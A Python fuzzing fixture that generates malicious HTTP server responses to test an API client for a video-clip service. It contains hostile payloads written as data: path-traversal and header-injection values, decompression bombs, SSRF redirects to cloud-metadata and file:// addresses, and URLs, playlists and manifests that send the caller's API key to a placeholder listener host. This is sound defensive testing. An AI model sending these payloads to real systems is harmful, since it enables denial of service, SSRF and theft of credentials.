"""What a server may answer that means no good: hand-made, multiplied out, and from a seed.

An answer is bytes on a wire, with tokens in it that the server knows the values of: `@TASK@` and
`@KEY@` (the task and the out_task_id that were asked about), `@CLIP@` (its clip's true address),
`@SECRET@` (the caller's API key), `@SNIFFER@` (host and port of somebody who listens),
`@LENGTH@` (of the body).
"""

from __future__ import annotations

import gzip
import json
import random
import zlib
from dataclasses import dataclass
from functools import cache
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from collections.abc import Iterator

SIGNATURE = "f00dfacef00dface"
"""Stands behind `signature=` in every address that a hostile server makes up."""

ENDPOINTS = ("submit", "query", "find", "cancel", "clip")


@dataclass(frozen=True)
class Answer:
    """`wire` is sent, then `repeat` over and over; `slowly`: a piece in a while. `hangs`: then
    nothing, until the other side leaves. `times`: so often, and then the truth.
    `url` is no answer, but an address that the clip is said to be at.
    """

    name: str
    wire: bytes = b""
    repeat: bytes = b""
    slowly: bool = False
    hangs: bool = False
    times: int | None = None
    url: str | None = None


def http(body: bytes, status: str = "200 OK", *headers: str) -> bytes:
    """A whole answer, its length announced unless `headers` say something of it."""
    told = "".join(f"{header}\r\n" for header in headers).encode("latin-1", "replace")
    if b"content-length" not in told.lower() and b"transfer-encoding" not in told.lower():
        told += b"Content-Length: @LENGTH@\r\n"
    head = f"HTTP/1.1 {status}\r\nConnection: close\r\n".encode()
    return head + told + b"\r\n" + body


def _bomb(size: int) -> bytes:
    return gzip.compress(b" " * size, 9, mtime=0)


DEEP = 100_000
_STATUS = {"submit": "queued", "query": "completed", "find": "queued", "cancel": "cancelled"}
_VALUES: dict[str, str] = {
    "null": "null",
    "true": "true",
    "an empty text": '""',
    "a space": '" "',
    "a dot": '"."',
    "dots": '".."',
    "up": '"../../../../tmp/evil"',
    "up, escaped": '"%2e%2e%2f%2e%2e%2fevil"',
    "absolute": '"/etc/passwd"',
    "of windows": r'"C:\\evil\\..\\evil"',
    "NUL": r'"task\u0000evil"',
    "line breaks": r'"task\r\nx-api-key: stolen\r\n\r\n"',
    "escape sequences": r'"\u001b[2J\u001b]0;owned\u0007\u009b31m"',
    "bells": r'"\u0007\u0008\u007f"',
    "lone surrogate": r'"\ud800evil"',
    "surrogates the wrong way": r'"\udc00\ud800"',
    "right to left": r'"\u202etxt.evil\u2066"',
    "line separator": r'"a\u2028b\u2029c\u0085d"',
    "unicode": '"タスク🎬é́"',
    "byte order mark": r'"\ufefftask"',
    "200 letters": json.dumps("x" * 200),
    "201 letters": json.dumps("x" * 201),
    "100,000 letters": json.dumps("x" * 100_000),
    "a query": '"x?task_id=y&z=1#"',
    "markup": '"[bold red]x[/bold red][link=file:///etc/passwd]y[/link]"',
    "format": '"%s%n{0.__class__}{task_id}"',
    "the key": '"@SECRET@"',
    "a signed address": f'"see https://cdn.example/a.mp4?signature={SIGNATURE}"',
    "another's id": '"task_of_somebody_else"',
    "zero": "0",
    "minus zero": "-0.0",
    "negative": "-1",
    "1e308": "1e308",
    "-1e308": "-1e308",
    "1e999": "1e999",
    "10**400": "1" + "0" * 400,
    "-10**400": "-1" + "0" * 400,
    "10**5000": "1" + "0" * 5000,
    "tiny": "1e-320",
    "many digits": "0." + "1" * 1000,
    "NaN": "NaN",
    "Infinity": "Infinity",
    "-Infinity": "-Infinity",
    "an empty list": "[]",
    "a list": '["completed", 1, null, {"url": 7}]',
    "a list of lists": "[[[[]]]]",
    "an empty object": "{}",
    "an object": '{"video_url": {"url": "x"}, "url": ["x"], "task_id": "y"}',
    "an object of nulls": '{"video_url": null, "url": null}',
    "100,000 levels": "[" * DEEP + "]" * DEEP,
    "levels of objects": '{"a":' * DEEP + "1" + "}" * DEEP,
    "500 levels": "[" * 500 + "]" * 500,
    "10,000 items": "[" + ",".join(["{}"] * 10_000) + "]",
}
"""JSON as it stands on the wire; some of it is none."""


def _fields(endpoint: str) -> dict[str, str]:
    return {
        "task_id": '"@TASK@"',
        "out_task_id": '"@KEY@"',
        "status": json.dumps(_STATUS[endpoint]),
        "credits": "0.18",
        "credits_used": "0.18",
        "estimated_credits": "0.18",
        "result": '{"video_url": "@CLIP@", "duration_seconds": 2}',
        "output": '[{"type": "video", "url": "@CLIP@"}]',
        "error_code": '"upstream_error"',
        "error_message": '"overloaded"',
    }


def _object(fields: dict[str, str]) -> bytes:
    pairs = ",".join(f"{json.dumps(name)}:{value}" for name, value in fields.items())
    return ("{" + pairs + "}").encode("utf-8")


def _of_fields(endpoint: str) -> Iterator[Answer]:
    """Every field with every value; with an error's code and words where those are read."""
    for field in _fields(endpoint):
        for label, value in _VALUES.items():
            fields = {**_fields(endpoint), field: value}
            if field == "output":
                del fields["result"]  # it would be looked at first
            if field == "credits_used":
                del fields["credits"]
            if field.startswith("error_"):
                fields["status"] = '"failed"'
            yield Answer(f"{field}: {label}", http(_object(fields)))


def _of_bodies(endpoint: str) -> Iterator[Answer]:
    good = _object(_fields(endpoint))
    bodies: dict[str, bytes] = {
        "nothing": b"",
        "null": b"null",
        "a list": b"[" + good + b"]",
        "a text": b'"completed"',
        "a number": b"1e999",
        "repeated keys": good[:-1] + b',"task_id":"../../evil","status":"completed"}',
        "10,000 repeated keys": good[:-1] + b',"status":"queued"' * 10_000 + b"}",
        "50,000 keys": good[:-1] + b"".join(b',"k%d":1' % n for n in range(50_000)) + b"}",
        "a key of escapes": b'{"\\u001b[2J":1,"@SECRET@":2}',
        "deep lists": b"[" * DEEP,
        "deep lists, closed": b"[" * DEEP + b"]" * DEEP,
        "deep objects": b'{"a":' * DEEP,
        "byte order mark": b"\xef\xbb\xbf" + good,
        "UTF-16": good.decode().encode("utf-16"),
        "UTF-32": good.decode().encode("utf-32"),
        "no UTF-8": good.replace(b"queued", b"\xff\xfe\xc0\x80"),
        "bytes": bytes(range(256)) * 40,
        "NULs": b"\0" * 4096,
        "escape sequences": b"\x1b[2J\x1b]0;owned\x07 not found",
        "two documents": good + good,
        "something behind it": good + b" <!-- x -->",
        "a comment": b"/* x */" + good,
        "single quotes": good.replace(b'"', b"'"),
        "a page": b"<!DOCTYPE html><html><body>Sign in @SECRET@</body></html>",
        "a page for later": b"\n\n  <html>\x1b[31m</html>",
        "XML": b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "b">]><a>&b;</a>',
        "JSON lines": good + b"\n" + good,
        "an event stream": b"data: " + good + b"\n\n",
        "an error envelope": b'{"error": {"code": "\\u001b[2J", "message": "@SECRET@"}}',
        "an error that is a list": b'{"error": []}',
        "an error of errors": b'{"error": {"code": {"code": 1}, "message": ["x"]}}',
        "spaces": b" " * 500_000 + good,
        "over the limit": b" " * (1024 * 1024) + good,
        "far over the limit": b'{"task_id": "' + b"x" * (4 * 1024 * 1024) + b'"}',
    }
    for label, body in bodies.items():
        yield Answer(f"body: {label}", http(body))
    for cut in range(1, 24):
        yield Answer(f"body cut at {cut}/24", http(good[: len(good) * cut // 24]))


def _of_wires(good: bytes) -> Iterator[Answer]:
    """What HTTP itself is made to say; `good` is a body that would do."""
    packed, bomb, flat = gzip.compress(good), _bomb(64 * 1024 * 1024), zlib.compress(good)
    for label, body, encoding in (
        ("gzip, unasked", packed, "gzip"),
        ("gzip bomb", bomb, "gzip"),
        ("gzip bomb in gzip", gzip.compress(bomb), "gzip, gzip"),
        ("gzip, not said", packed, None),
        ("gzip bomb, not said", bomb, None),
        ("deflate", flat, "deflate"),
        ("deflate bomb", zlib.compress(b" " * (64 * 1024 * 1024), 9), "deflate"),
        ("no gzip, but said", good, "gzip"),
        ("br, but said", good, "br"),
        ("zstd, but said", good, "zstd"),
        ("an encoding of escapes", good, "\x1b[2J"),
        ("identity, thrice", good, "identity, identity, identity"),
    ):
        said = () if encoding is None else (f"Content-Encoding: {encoding}",)
        yield Answer(f"wire: {label}", http(body, "200 OK", *said))
    for label, length in (
        ("one more than there is", str(len(good) + 1)),
        ("a gigabyte", "1073741824"),
        ("10**30", "1" + "0" * 30),
        ("none", "0"),
        ("half", str(len(good) // 2)),
        ("negative", "-1"),
        ("in words", "many"),
        ("signed", "+5"),
        ("twice", f"5, {len(good)}"),
        ("empty", ""),
    ):
        head = http(good, "200 OK", f"Content-Length: {length}")
        yield Answer(f"wire: a length that is {label}", head)
    chunked = "Transfer-Encoding: chunked"
    for label, body in (
        ("that end at once", b"0\r\n\r\n"),
        ("that never end", b"5\r\nhello\r\n"),
        ("without a size", b"hello\r\n0\r\n\r\n"),
        ("of a negative size", b"-5\r\nhello\r\n0\r\n\r\n"),
        ("of a huge size", b"FFFFFFFFFFFFFFFFF\r\nhello"),
        ("of a long size", b"0" * 10_000 + b"5\r\nhello\r\n0\r\n\r\n"),
        ("with endless extensions", b"5;" + b"x" * 200_000 + b"\r\nhello\r\n0\r\n\r\n"),
        ("with trailers", b"0\r\nx-api-key: @SECRET@\r\n\r\n"),
        ("of NULs", b"\0\0\0\0"),
    ):
        yield Answer(f"wire: chunks {label}", http(body, "200 OK", chunked))
    both = http(good, "200 OK", chunked, f"Content-Length: {len(good)}")
    yield Answer("wire: chunked and a length", both)
    yield from _of_heads(good)


def _of_heads(good: bytes) -> Iterator[Answer]:
    head = b"HTTP/1.1 200 OK\r\n"
    for label, wire in (
        ("nothing", b""),
        ("HTTP/0.9", good),
        ("garbage", bytes(range(256)) * 4),
        ("TLS", b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + b"\0" * 64),
        ("SSH", b"SSH-2.0-OpenSSH_9.6\r\n"),
        ("HTTP/2", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"),
        ("HTTP/9.9", b"HTTP/9.9 200 OK\r\n\r\n" + good),
        ("ICY", b"ICY 200 OK\r\n\r\n" + good),
        ("a status line alone", b"HTTP/1.1 200 OK\r\n"),
        ("half a status line", b"HTTP/1.1 2"),
        ("status 99", b"HTTP/1.1 99 x\r\n\r\n"),
        ("status 000", b"HTTP/1.1 000 x\r\n\r\n"),
        ("status 999", b"HTTP/1.1 999 x\r\n\r\n"),
        ("status of letters", b"HTTP/1.1 abc x\r\n\r\n"),
        ("status of ten digits", b"HTTP/1.1 2000000000 x\r\n\r\n"),
        ("a reason of escapes", b"HTTP/1.1 400 \x1b[2J\x1b]0;owned\x07\r\n\r\n"),
        ("a reason of 60,000", b"HTTP/1.1 400 " + b"x" * 60_000 + b"\r\n\r\n"),
        ("a header of 200,000", head + b"X: " + b"x" * 200_000 + b"\r\n\r\n"),
        ("20,000 headers", head + b"X: y\r\n" * 20_000 + b"\r\n"),
        ("a folded header", head + b"X: y\r\n z\r\n\t@SECRET@\r\n\r\n" + good),
        ("a header without a name", head + b": y\r\n\r\n"),
        ("a header with NUL", head + b"X: a\0b\r\n\r\n"),
        ("a bare line feed", head.replace(b"\r", b"") + b"X: y\n\n" + good),
        ("no UTF-8 in a header", head + b"X: \xff\xfe\r\nContent-Type: \xff\r\n\r\n" + good),
        ("switching protocols", b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: x\r\n\r\n" + good),
        ("1,000 times 1xx", b"HTTP/1.1 103 Early Hints\r\nLink: x\r\n\r\n" * 1000 + http(good)),
        ("1xx and no more", b"HTTP/1.1 100 Continue\r\n\r\n"),
        ("cookies", http(good, "200 OK", "Set-Cookie: x-api-key=stolen; Domain=127.0.0.1")),
        ("another answer behind", http(good) + http(b'{"task_id": "smuggled"}')),
        ("odd quota", http(good, "200 OK", "X-Quota-Remaining-Credits: 1e999")),
        ("no quota", http(good, "200 OK", "X-Quota-Remaining-Credits: NaN")),
        ("204", b"HTTP/1.1 204 No Content\r\n\r\n"),
        ("205 with a body", http(good, "205 Reset Content")),
        ("206", http(good, "206 Partial Content", "Content-Range: bytes 5-9/10")),
        ("304", b"HTTP/1.1 304 Not Modified\r\n\r\n"),
    ):
        yield Answer(f"wire: {label}", wire)
    for label, wire, repeat, slowly in (
        ("an endless body", head + b"\r\n", b" " * 65_536, False),
        ("an endless body of chunks", head + b"Transfer-Encoding: chunked\r\n\r\n", _CHUNK, False),
        ("endless tiny chunks", head + b"Transfer-Encoding: chunked\r\n\r\n", _CRUMBS, False),
        ("endless headers", head, b"X: y\r\n" * 1000, False),
        ("an endless header", head + b"X: ", b"y" * 65_536, False),
        ("an endless status line", b"HTTP/1.1 200 ", b"O" * 65_536, False),
        ("endless 1xx", b"", b"HTTP/1.1 103 Early Hints\r\n\r\n" * 100, False),
        ("dripping headers", head, b"X: y\r\n", True),
        ("a dripping header", head + b"X: ", b"y", True),
        ("a dripping body", head + b"Content-Length: 1000000\r\n\r\n", b" ", True),
        ("a dripping end", head + b"\r\n" + good, b" ", True),
        ("dripping 1xx", b"", b"HTTP/1.1 102 Processing\r\n\r\n", True),
    ):
        # Once: a flood of heads costs whoever reads it a core until the time is up, each time.
        yield Answer(f"wire: {label}", wire, repeat, slowly, times=None if slowly else 1)
    for label, wire in (
        ("at once", b""),
        ("after the status line", head),
        ("after the headers", head + b"Content-Length: 99\r\n\r\n"),
        ("in the midst", head + b"Content-Length: 99\r\n\r\n" + good[:20]),
    ):
        yield Answer(f"wire: silence {label}", wire, hangs=True)


_CRUMBS = b"1\r\n \r\n" * 5000
_CHUNK = b"10000\r\n" + b" " * 65_536 + b"\r\n"

PLACES = (
    "http://@SNIFFER@/v1/tasks/submit",
    f"http://@SNIFFER@/clip.mp4?signature={SIGNATURE}",
    "http://localhost:@SNIFFERPORT@/x",
    "http://[::1]:@SNIFFERPORT@/x",
    "http://127.1:@SNIFFERPORT@/x",
    "http://2130706433:@SNIFFERPORT@/x",
    "http://0x7f000001:@SNIFFERPORT@/x",
    "http://0177.0.0.1:@SNIFFERPORT@/x",
    "http://0.0.0.0:@SNIFFERPORT@/x",
    "http://[::ffff:127.0.0.1]:@SNIFFERPORT@/x",
    "http://@GATEWAY@@@SNIFFER@/x",
    "http://@SECRET@:@SECRET@@@SNIFFER@/x",
    "http://@SNIFFER@#@@GATEWAY@/x",
    "http://@SNIFFER@\\@@GATEWAY@/x",
    "//@SNIFFER@/x",
    "\\\\@SNIFFER@\\x",
    "https://@SNIFFER@/x",
    "https://@GATEWAY@/x",
    "https://127.0.0.1/x",
    "https://evil.example/clip.mp4",
    "https://localhost/x",
    "http://10.0.0.1/x",
    "https://10.1.2.3/x",
    "https://192.168.0.1/x",
    "http://169.254.169.254/latest/meta-data/",
    "https://169.254.169.254/latest/meta-data/",
    "http://metadata.google.internal/",
    "https://[fe80::1%25eth0]/x",
    "https://[fd00::1]/x",
    "http://127.0.0.1:22/x",
    "http://127.0.0.1:0/x",
    "http://127.0.0.1:99999/x",
    "file:///etc/passwd",
    "file://localhost/etc/passwd",
    "ftp://@SNIFFER@/x",
    "gopher://@SNIFFER@/_x",
    "data:video/mp4;base64,AAAA",
    "javascript:alert(1)",
    "unix:///tmp/x.sock",
    "blob:http://@SNIFFER@/x",
    "x" * 9000,
    "http://" + "a." * 200 + "example/x",
    "http://" + "x" * 300 + "/x",
    "http://\u2025.example/x",
    "http://xn--/x",
    "http://[::1/x",
    "http://]/x",
    "http:///x",
    "http:x",
    "http://a b/x",
    "http://x\r\nx-api-key: y/",
    "\x1b[2J",
    "\ud800",
    "",
    " ",
    "?",
    "../../../../etc/passwd",
    "/etc/passwd",
)
"""Where nobody may be led."""


def _of_redirects(statuses: tuple[int, ...]) -> Iterator[Answer]:
    for status in statuses:
        for place in PLACES:
            told = "".join(c for c in place if c not in "\r\n")
            wire = http(b"", f"{status} Moved", f"Location: {told}")
            yield Answer(f"redirect {status} to {place[:60]!r}", wire)
        loop = http(b"", f"{status} Moved", "Location: @HERE@")
        yield Answer(f"redirect {status} to itself", loop)
        yield Answer(f"redirect {status} without a place", http(b"", f"{status} Moved"))
        twice = http(b"", f"{status} Moved", "Location: @HERE@", "Location: http://@SNIFFER@/x")
        yield Answer(f"redirect {status} to two places", twice)


_REFUSALS = (
    *("400 x", "401 x", "402 x", "403 x", "404 x", "409 x", "413 x", "418 x", "429 x", "451 x"),
    *("500 x", "501 x", "502 x", "503 x", "505 x", "599 x", "600 x"),
)


def _of_refusals() -> Iterator[Answer]:
    envelopes = {
        "of the API": b'{"error": {"code": "task_not_found", "message": "no"}}',
        "of the key": b'{"error": {"code": "duplicate_out_task_id", "message": "@SECRET@"}}',
        "of escapes": b'{"error": {"code": "\\u001b[2J", "message": "\\u001b]0;x\\u0007\\ud800"}}',
        "of 500,000": b'{"error": {"code": "'
        + b"x" * 500_000
        + b'", "message": "'
        + b"y" * 9
        + b'"}}',
        "of depth": b'{"error":' * DEEP,
        "of a page": b"<html>\x1b[2J @SECRET@</html>",
    }
    for status in _REFUSALS:
        for label, body in envelopes.items():
            # A crowd is waited out for hours, as it should be: here it passes.
            times = 2 if status.startswith("429") else None
            wire = http(body, status, "X-RateLimit-Reset: 1e999", "Retry-After: 999999999999")
            yield Answer(f"{status[:3]} {label}", wire, times=times)


def mutated(good: bytes, number: int, seed: int) -> bytes:
    """Some bytes of an answer flipped, cut out, doubled, put elsewhere, or replaced."""
    dice = random.Random(f"{seed}/{number}")  # noqa: S311 (not for secrets)
    wire = bytearray(good)
    for _change in range(dice.randint(1, 4)):
        begin = dice.randrange(len(wire) or 1)
        end = min(begin + dice.randint(1, 24), len(wire))
        match dice.randrange(6):
            case 0:
                wire[begin : begin + 1] = bytes([dice.randrange(256)])
            case 1:
                del wire[begin:end]
            case 2:
                wire[begin:begin] = wire[begin:end]
            case 3:
                wire[begin:begin] = dice.choice(_NASTY)
            case 4:
                other = dice.randrange(len(wire) or 1)
                wire[other:other] = wire[begin:end]
            case _:
                wire[begin:end] = dice.randbytes(end - begin)
    return bytes(wire)


_NASTY = (
    *(b"\0", b"\r\n", b"\r\n\r\n", b"\n", b"\x1b[2J", b"\xff", b"\xef\xbb\xbf", b'"', b"{", b"}"),
    *(b"[" * 2000, b"null", b"1e999", b"NaN", b"../", b"\\ud800", b"9" * 400, b"@SECRET@", b","),
    *(b"Content-Encoding: gzip\r\n", b"Transfer-Encoding: chunked\r\n", b"Content-Length: 7\r\n"),
)


def generated(endpoint: str, count: int, seed: int) -> Iterator[Answer]:
    """So many answers out of a good one, by a seed."""
    good = http(_object(_fields(endpoint)), "200 OK", "Content-Type: application/json")
    for number in range(count):
        yield Answer(f"mutation {number} of seed {seed}", mutated(good, number, seed))


@cache
def answers(endpoint: str) -> tuple[Answer, ...]:
    """All hand-made and multiplied answers to a request of the API."""
    return (
        *_of_fields(endpoint),
        *_of_bodies(endpoint),
        *_of_wires(_object(_fields(endpoint))),
        *_of_redirects((307, 308)),
        *_of_refusals(),
    )


def clip_answers(clip: bytes) -> Iterator[Answer]:
    """The same for a clip's host; `clip` is one that would do."""
    for place in PLACES:
        yield Answer(f"video_url {place[:60]!r}", url=place)
    yield from _of_redirects((301, 302, 303, 307, 308))
    yield from _of_refusals()
    mp4 = "Content-Type: video/mp4"
    yield from _of_wires(clip)
    for cut in range(40):
        yield Answer(f"clip cut at {cut}/40", http(clip[: len(clip) * cut // 40], "200 OK", mp4))
    for label, body in (
        ("nothing", b""),
        ("a page", b"<html>\x1b[2J</html>"),
        ("zeros", b"\0" * 100_000),
        ("a PNG", b"\x89PNG\r\n\x1a\n" + b"\0" * 64),
        ("a playlist", b"#EXTM3U\n#EXTINF:1,\nhttp://@SNIFFER@/x.ts\n"),
        ("a concat script", b"ffconcat version 1.0\nfile /etc/passwd\n"),
        ("an SDP", b"v=0\r\no=- 0 0 IN IP4 127.0.0.1\r\nm=video 1 RTP/AVP 96\r\n"),
        (
            "a DASH manifest",
            b'<?xml version="1.0"?><MPD><BaseURL>http://@SNIFFER@/</BaseURL></MPD>',
        ),
        ("boxes of size 0", b"\0\0\0\0ftyp" * 1000),
        ("a box of 2**63", b"\0\0\0\x01moov\x7f" + b"\xff" * 7 + b"\0" * 99),
        ("boxes in boxes", b"\0\0\xff\xffmoov" * 8000),
        ("two clips", clip + clip),
        ("over the cap", b"\0" * (9 * 1024 * 1024)),
    ):
        yield Answer(f"clip: {label}", http(body, "200 OK", mp4))
    for name in (b"mvhd", b"tkhd", b"mdhd", b"avc1", b"stsz", b"stco", b"stts", b"stsc", b"elst"):
        for at in (4, 8, 12, 16, 20, 24, 28, 76, 80):
            for what in (b"\xff\xff\xff\xff", b"\x7f\xff\xff\xff", b"\0\0\0\0"):
                begin = clip.find(name) + at
                body = clip[:begin] + what + clip[begin + 4 :]
                yield Answer(
                    f"clip: {name.decode()}+{at} = {what.hex()}", http(body, "200 OK", mp4)
                )


def clip_mutations(clip: bytes, count: int, seed: int) -> Iterator[Answer]:
    """Clips with a few bytes changed, by a seed."""
    for number in range(count):
        body = mutated(clip, number, seed)
        yield Answer(f"clip mutation {number} of seed {seed}", http(body, "200 OK"))
